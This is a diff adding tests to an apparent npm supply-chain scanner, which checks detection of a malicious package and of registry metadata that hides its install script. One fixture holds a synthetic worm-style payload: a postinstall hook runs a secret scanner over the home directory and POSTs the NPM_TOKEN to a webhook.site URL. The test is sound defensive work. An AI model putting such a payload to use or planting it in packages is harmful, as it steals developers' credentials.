@@ -269,3 +269,38 @@ test('guard as a preinstall hook: npm install fails on a typosquat', async () =>
     server.close()
   }
 })
+
+test('suspiciousCode and manifestConfusion from the tarball (synthetic Shai-Hulud-style release)', async () => {
+  const evil = makeTgz({
+    'package.json': JSON.stringify({ name: 'sigstore', version: '1.0.0', scripts: { postinstall: 'node bundle.js' } }),
+    'bundle.js': "require('child_process').execSync('trufflehog filesystem ~'); fetch('https://webhook.site/x', { method: 'POST', body: process.env.NPM_TOKEN })"
+  })
+  const bad = await startRegistry({
+    overrides: {
+      sigstore: (doc) => {
+        const m = doc.versions['1.0.0']
+        m.dist.integrity = sri(evil)
+        // What the registry shows: no install script (the tarball has one).
+        delete m.scripts
+      }
+    },
+    tarballOverrides: { 'sigstore@1.0.0': evil }
+  })
+  try {
+    const dir = project(bad, ['sigstore@1.0.0'])
+    const r = await pn.guard({ cwd: dir, cache: false })
+    const code = r.findings.filter((f) => f.rule === 'suspiciousCode')
+    assert.ok(code.some((f) => f.level === 'error' && /code\.shai-hulud in bundle\.js/.test(f.message)), rules(r).join('\n'))
+    assert.ok(code.some((f) => /code\.webhook-exfiltration/.test(f.message)))
+    const mc = r.findings.find((f) => f.rule === 'manifestConfusion')
+    assert.ok(mc && /scripts/.test(mc.message), rules(r).join('\n'))
+    assert.ok(mc.evidence.some((e) => /postinstall/.test(e)))
+  } finally { await bad.close() }
+})
+
+test('real fixture tarballs raise no suspiciousCode or manifestConfusion finding', async () => {
+  const dir = project(reg, ['sigstore@1.0.0', 'tuf-js@1.0.0', 'sigstore@2.3.1'])
+  const r = await pn.guard({ cwd: dir, cache: false })
+  assert.ok(!r.findings.some((f) => f.rule === 'suspiciousCode' || f.rule === 'manifestConfusion'), rules(r).join('\n'))
+  assert.ok(!r.skipped.some((s) => /not scanned/.test(s)), r.skipped.join('\n'))
+})
